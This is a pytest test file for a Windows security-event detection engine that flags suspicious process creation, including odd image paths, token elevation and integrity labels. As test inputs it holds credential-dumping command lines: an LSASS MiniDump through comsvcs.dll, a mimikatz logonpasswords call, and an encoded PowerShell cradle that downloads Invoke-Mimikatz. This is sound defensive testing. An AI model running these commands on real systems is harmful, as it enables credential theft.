"""The findings rules on a 4688's own fields (the 4688 page's monitoring recommendations):
nothing on ordinary activity; image folders and expected paths; restricted substrings, encoded
command lines included; token elevation; mandatory labels, above the parent's among them."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from core.findings.engine import Finding, findings_for_event, run_findings
from core.model.event import Event, parse_time
from core.store.store import Store, StoredEvent
from tests.findings.rule_events import DOMAIN_SID, SYSTEM_SVCHOST, T0, USER_RUNDLL, defaults, ev, fired, with_rules

# -- nothing on ordinary activity -------------------------------------------------------------


def test_system_svchost_raises_nothing() -> None:
    assert fired(ev()) == {}


def test_user_process_with_uac_on_raises_nothing() -> None:
    assert fired(ev(USER_RUNDLL)) == {}


def test_other_event_ids_are_not_looked_at_by_default() -> None:
    event = ev(USER_RUNDLL, eid=4624, NewProcessName="C:\\Users\\x\\Downloads\\mimikatz.exe")
    assert fired(event) == {}


def test_finding_carries_the_evidence_record() -> None:
    event = ev(USER_RUNDLL, rid=2814, NewProcessName="C:\\Tools\\x.exe")
    (f,) = run_findings([StoredEvent(42, event)], defaults())
    assert (f.rule, f.severity, f.store_id, f.record_id, f.event_id) == (
        "image-outside-standard-folders",
        "medium",
        42,
        2814,
        4688,
    )
    assert f.computer == "WS01.contoso.local" and f.time == parse_time(T0)
    assert ("NewProcessName", "C:\\Tools\\x.exe") in f.evidence
    assert "\n" not in f.message


# -- image folders ----------------------------------------------------------------------------


def test_image_outside_standard_folders() -> None:
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Tools\\nc.exe"))
    assert "image-outside-standard-folders" in f
    assert "C:\\Tools\\nc.exe is outside the standard folders" in f["image-outside-standard-folders"].message


def test_parent_image_outside_standard_folders() -> None:
    f = fired(ev(USER_RUNDLL, ParentProcessName="C:\\ProgramData\\x\\loader.exe"))
    assert f["image-outside-standard-folders"].message.startswith("ParentProcessName C:\\ProgramData\\x\\loader.exe")


@pytest.mark.parametrize(
    "image",
    [
        "C:\\Windows\\System32\\cmd.exe",
        "D:\\Windows\\SysWOW64\\cmd.exe",
        "c:\\program files\\Mozilla Firefox\\firefox.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe",
        "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe",
        "\\SystemRoot\\System32\\smss.exe",
    ],
)
def test_standard_folders_in_every_spelling(image: str) -> None:
    assert "image-outside-standard-folders" not in fired(ev(USER_RUNDLL, NewProcessName=image))


def test_kernel_pseudo_processes_are_not_paths() -> None:
    assert fired(ev(ParentProcessName="Registry")) == {}
    assert fired(ev(ParentProcessName="")) == {}


@pytest.mark.parametrize(
    ("image", "folder"),
    [
        ("C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe", "Temp"),
        ("C:\\Windows\\Temp\\svc.exe", "Temp"),
        ("C:\\Users\\bob\\Downloads\\setup.exe", "Downloads"),
        ("C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\Temporary Internet Files\\x\\a.exe", "Temp"),
        ("C:\\Users\\Public\\a.exe", "Users\\Public"),
    ],
)
def test_image_in_restricted_folder(image: str, folder: str) -> None:
    f = fired(ev(USER_RUNDLL, NewProcessName=image))
    assert f["image-in-restricted-folder"].severity == "high"
    assert f"restricted folder {folder}" in f["image-in-restricted-folder"].message


def test_windows_temp_is_restricted_though_windows_is_standard() -> None:
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Windows\\Temp\\svc.exe"))
    assert "image-in-restricted-folder" in f and "image-outside-standard-folders" not in f


def test_restricted_folder_needs_a_whole_folder_name() -> None:
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Windows\\System32\\TempFolderCleanup.exe"))
    assert "image-in-restricted-folder" not in f
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Program Files\\Contemporary\\app.exe"))
    assert "image-in-restricted-folder" not in f


def test_folder_lists_come_from_toml() -> None:
    rules = with_rules(
        "[rules.image-outside-standard-folders]\n"
        "standard_folders = ['\\Windows\\', 'E:\\Tools\\']\n"
        "[rules.image-in-restricted-folder]\n"
        "restricted_folders = ['\\Staging\\']\n"
    )
    f = fired(ev(USER_RUNDLL, NewProcessName="E:\\Tools\\nc.exe"), rules)
    assert "image-outside-standard-folders" not in f
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Tools\\nc.exe"), rules)
    assert "image-outside-standard-folders" in f  # drive-letter folders match that drive only
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Program Files\\x.exe"), rules)
    assert "image-outside-standard-folders" in f  # the list was replaced, not extended
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Windows\\Staging\\x.exe"), rules)
    assert "image-in-restricted-folder" in f
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Windows\\Temp\\x.exe"), rules)
    assert "image-in-restricted-folder" not in f


# -- expected images --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "image",
    ["C:\\Windows\\svchost.exe", "C:\\Users\\Public\\lsass.exe", "C:\\Windows\\System32\\drivers\\svchost.exe"],
)
def test_known_name_at_unexpected_path(image: str) -> None:
    f = fired(ev(NewProcessName=image))
    assert f["unexpected-image-path"].severity == "high"
    assert "is expected at" in f["unexpected-image-path"].message


@pytest.mark.parametrize(
    "image",
    [
        "c:\\windows\\system32\\SVCHOST.EXE",
        "C:\\Windows\\SysWOW64\\svchost.exe",
        "D:\\Windows\\explorer.exe",
        "C:\\Tools\\unknown.exe",
    ],
)
def test_expected_path_or_unknown_name_is_fine(image: str) -> None:
    assert "unexpected-image-path" not in fired(ev(NewProcessName=image))


def test_expected_images_from_toml() -> None:
    rules = with_rules("[rules.unexpected-image-path.expected]\n'sqlservr.exe' = ['C:\\MSSQL\\Binn\\sqlservr.exe']\n")
    assert "unexpected-image-path" in fired(ev(NewProcessName="D:\\MSSQL\\Binn\\sqlservr.exe"), rules)
    assert "unexpected-image-path" not in fired(ev(NewProcessName="C:\\MSSQL\\Binn\\sqlservr.exe"), rules)
    # The map was replaced: svchost.exe is no longer checked.
    assert "unexpected-image-path" not in fired(ev(NewProcessName="C:\\Windows\\svchost.exe"), rules)


# -- restricted substrings --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "needle"),
    [
        ("NewProcessName", "C:\\Windows\\System32\\Mimikatz.exe", "'mimikatz' in NewProcessName"),
        ("ParentProcessName", "C:\\Windows\\cain.exe", "'cain.exe' in ParentProcessName"),
        ("CommandLine", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full", "minidump"),
        ("CommandLine", 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit', "'sekurlsa::' in CommandLine"),
    ],
)
def test_restricted_substring(field: str, value: str, needle: str) -> None:
    f = fired(ev(SYSTEM_SVCHOST | {field: value}))
    assert needle in f["restricted-substring"].message
    assert (field, value) in f["restricted-substring"].evidence


def test_restricted_substring_inside_encoded_powershell() -> None:
    import base64

    payload = base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('x/Invoke-Mimikatz.ps1')".encode("utf-16-le")
    )
    f = fired(ev(CommandLine=f"powershell.exe -nop -w hidden -enc {payload.decode()}"))
    assert "decoded from -EncodedCommand base64" in f["restricted-substring"].message
    off = with_rules("[rules.restricted-substring]\ndecode_command_line = false\n")
    assert "restricted-substring" not in fired(ev(CommandLine=f"powershell.exe -enc {payload.decode()}"), off)


def test_restricted_substring_not_on_near_misses_and_list_from_toml() -> None:
    assert "restricted-substring" not in fired(ev(NewProcessName="C:\\Windows\\System32\\mimi.exe"))
    rules = with_rules("[rules.restricted-substring]\nsubstrings = ['adfind']\nseverity = 'critical'\n")
    f = fired(ev(CommandLine="AdFind.exe -f objectcategory=computer"), rules)
    assert f["restricted-substring"].severity == "critical"
    assert "restricted-substring" not in fired(ev(NewProcessName="C:\\Windows\\mimikatz.exe"), rules)


# -- token elevation --------------------------------------------------------------------------


def test_full_token_for_real_user_means_uac_off() -> None:
    f = fired(ev(USER_RUNDLL, TokenElevationType="%%1936"))
    assert "UAC likely off" in f["uac-disabled"].message and "CONTOSO\\dadmin" in f["uac-disabled"].message


@pytest.mark.parametrize(
    ("sid", "name", "domain"),
    [
        ("S-1-5-18", "WS01$", "CONTOSO"),
        ("S-1-5-19", "LOCAL SERVICE", "NT AUTHORITY"),
        ("S-1-5-20", "NETWORK SERVICE", "NT AUTHORITY"),
        ("S-1-5-90-0-1", "DWM-1", "Window Manager"),
    ],
)
def test_full_token_for_system_and_services_is_normal(sid: str, name: str, domain: str) -> None:
    event = ev(SubjectUserSid=sid, SubjectUserName=name, SubjectDomainName=domain)
    assert "uac-disabled" not in fired(event)


def test_full_token_checks_the_account_the_process_runs_as() -> None:
    # SYSTEM creates a process for another logon (WMI, psexec): the Target Subject is the owner.
    event = ev(TargetUserSid="S-1-0-0", TargetUserName="admmig", TargetDomainName="CONTOSO", TargetLogonId="0x266e045")
    f = fired(event)
    assert "CONTOSO\\admmig (Target Subject)" in f["uac-disabled"].message


def test_full_token_for_built_in_administrator_says_so_and_can_be_excluded() -> None:
    event = ev(
        USER_RUNDLL, TokenElevationType="%%1936", SubjectUserSid=f"{DOMAIN_SID}-500", SubjectUserName="Administrator"
    )
    assert "built-in Administrator" in fired(event)["uac-disabled"].message
    rules = with_rules("[rules.uac-disabled]\nexclude_accounts = ['S-1-5-21-*-500']\n")
    assert "uac-disabled" not in fired(event, rules)


def test_elevated_token_for_real_user_on_workstation() -> None:
    f = fired(ev(USER_RUNDLL, TokenElevationType="%%1937", MandatoryLabel="S-1-16-12288"))
    assert "as administrator" in f["run-as-administrator"].message
    assert f["run-as-administrator"].severity == "low"
    assert "uac-disabled" not in f


def test_elevated_token_only_on_listed_workstations() -> None:
    rules = with_rules("[rules.run-as-administrator]\nworkstations = ['WS*']\nexclude_computers = ['WS99*']\n")
    assert "run-as-administrator" in fired(ev(USER_RUNDLL, TokenElevationType="%%1937"), rules)
    on_server = ev(USER_RUNDLL, TokenElevationType="%%1937", computer="SRV01.contoso.local")
    assert "run-as-administrator" not in fired(on_server, rules)
    excluded = ev(USER_RUNDLL, TokenElevationType="%%1937", computer="WS99.contoso.local")
    assert "run-as-administrator" not in fired(excluded, rules)


def test_elevated_token_for_machine_account_is_not_run_as_admin() -> None:
    assert "run-as-administrator" not in fired(ev(TokenElevationType="%%1937"))


def test_elevated_token_for_another_computers_account() -> None:
    f = fired(ev(TokenElevationType="%%1937", SubjectUserName="WS02$", SubjectUserSid=f"{DOMAIN_SID}-1201"))
    rule = f["elevated-foreign-computer-account"]
    assert rule.severity == "high" and "CONTOSO\\WS02$" in rule.message and "another computer" in rule.message


def test_elevated_token_for_own_computer_account_is_fine() -> None:
    assert "elevated-foreign-computer-account" not in fired(ev(TokenElevationType="%%1937"))
    # NetBIOS names are cut at 15 characters: LONGHOSTNAME-01$ is longhostname-012345's own account.
    event = ev(
        TokenElevationType="%%1937", SubjectUserName="LONGHOSTNAME-01$", computer="longhostname-012345.contoso.local"
    )
    assert "elevated-foreign-computer-account" not in fired(event)
    # Full tokens are not this rule's business.
    assert "elevated-foreign-computer-account" not in fired(ev(SubjectUserName="WS02$"))


# -- mandatory labels -------------------------------------------------------------------------


def test_mandatory_label_of_interest() -> None:
    f = fired(ev(MandatoryLabel="S-1-16-20480"))
    assert "S-1-16-20480 (Protected Process" in f["mandatory-label-of-interest"].message
    assert "mandatory-label-of-interest" not in fired(ev(MandatoryLabel="S-1-16-16384"))
    rules = with_rules("[rules.mandatory-label-of-interest]\nlabels = ['S-1-16-16384']\n")
    assert "mandatory-label-of-interest" in fired(ev(MandatoryLabel="S-1-16-16384"), rules)


def _chain(*events: Event) -> list[StoredEvent]:
    return [StoredEvent(i + 1, e) for i, e in enumerate(events)]


def _parent(label: str, pid: str = "0x0000000000000e74", **kw: Any) -> Event:
    return ev(
        USER_RUNDLL,
        rid=kw.pop("rid", 1),
        time=kw.pop("time", "2015-11-12T02:20:00Z"),
        NewProcessId=pid,
        ProcessId="0x100",
        NewProcessName="C:\\Windows\\explorer.exe",
        MandatoryLabel=label,
        **kw,
    )


def _child(label: str, ppid: str = "0xe74", **kw: Any) -> Event:
    return ev(
        USER_RUNDLL,
        rid=kw.pop("rid", 3),
        time=kw.pop("time", T0),
        ProcessId=ppid,
        MandatoryLabel=label,
        TokenElevationType="%%1938",
        **kw,
    )


def _above(events: list[StoredEvent]) -> list[Finding]:
    return [f for f in run_findings(events, defaults()) if f.rule == "mandatory-label-above-parent"]


def test_label_above_the_parents() -> None:
    (f,) = _above(_chain(_parent("S-1-16-8192"), _child("S-1-16-16384")))
    assert f.store_id == 2 and f.related_store_id == 1 and f.record_id == 3
    assert "System integrity" in f.message and "above its parent C:\\Windows\\explorer.exe" in f.message
    assert "Medium integrity" in f.message and "parent record 1" in f.message


def test_label_not_above_the_parents() -> None:
    assert _above(_chain(_parent("S-1-16-12288"), _child("S-1-16-12288"))) == []
    assert _above(_chain(_parent("S-1-16-16384"), _child("S-1-16-8192"))) == []


def test_label_parent_must_be_on_the_same_computer() -> None:
    other = _parent("S-1-16-4096", computer="WS02.contoso.local")
    assert _above(_chain(other, _child("S-1-16-16384"))) == []


def test_label_parent_ended_by_4689_is_not_the_parent() -> None:
    exit_ = ev(
        {"ProcessId": "0xe74", "ProcessName": "C:\\Windows\\explorer.exe"}, eid=4689, rid=2, time="2015-11-12T02:22:00Z"
    )
    assert _above(_chain(_parent("S-1-16-8192"), exit_, _child("S-1-16-16384"))) == []


def test_label_uses_the_nearest_preceding_4688_of_a_reused_pid() -> None:
    older = _parent("S-1-16-4096", rid=1, time="2015-11-12T02:00:00Z")
    newer = _parent("S-1-16-16384", rid=2, time="2015-11-12T02:10:00Z")
    assert _above(_chain(older, newer, _child("S-1-16-16384"))) == []
    older = _parent("S-1-16-16384", rid=1, time="2015-11-12T02:00:00Z")
    newer = _parent("S-1-16-4096", rid=2, time="2015-11-12T02:10:00Z")
    (f,) = _above(_chain(older, newer, _child("S-1-16-8192")))
    assert f.related_store_id == 2 and "parent record 2" in f.message


def test_label_ignore_images_from_toml() -> None:
    rules = with_rules("[rules.mandatory-label-above-parent]\nignore_images = ['*\\rundll32.exe']\n")
    events = _chain(_parent("S-1-16-8192"), _child("S-1-16-16384"))
    assert [f for f in run_findings(events, rules) if f.rule == "mandatory-label-above-parent"] == []


def _store(tmp_path: Path, events: list[Event]) -> tuple[Store, list[StoredEvent]]:
    store = Store(tmp_path / "events.sqlite")
    store.add_source("test.xml", "xml")
    store.add_events(events)
    store.build_indexes()
    return store, list(store.iter_events())


def test_findings_for_event_matches_the_streaming_engine(tmp_path: Path) -> None:
    store, stored = _store(tmp_path, [_parent("S-1-16-8192"), _child("S-1-16-16384")])
    child = stored[1]
    streamed = [f for f in run_findings(stored, defaults()) if f.store_id == child.id]
    single = findings_for_event(child, defaults(), store)
    assert single == streamed
    assert {f.rule for f in single} == {"mandatory-label-above-parent"}
    # Without the store the parent cannot be found: that rule alone is skipped.
    assert findings_for_event(child, defaults()) == []
    store.close()


def test_findings_for_event_sees_the_parents_exit(tmp_path: Path) -> None:
    exit_ = ev({"ProcessId": "0x0000000000000e74"}, eid=4689, rid=2, time="2015-11-12T02:22:00Z")
    store, stored = _store(tmp_path, [_parent("S-1-16-8192"), exit_, _child("S-1-16-16384")])
    assert findings_for_event(stored[2], defaults(), store) == []
    assert findings_for_event(stored[0], defaults(), store) == []
    store.close()
